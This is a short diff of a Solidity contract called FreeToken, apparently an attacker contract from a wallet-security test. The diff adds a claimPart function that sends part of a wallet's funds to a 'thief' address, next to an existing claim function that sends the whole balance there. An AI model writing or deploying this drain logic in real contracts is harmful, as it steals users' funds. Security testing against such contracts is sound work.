@@ -12,6 +12,10 @@ contract FreeToken {
         thief = to;
     }
 
+    function claimPart(uint256 amount) external {
+        wallet.send(thief, amount);
+    }
+
     function claim() external {
         wallet.send(thief, address(wallet).balance);
     }
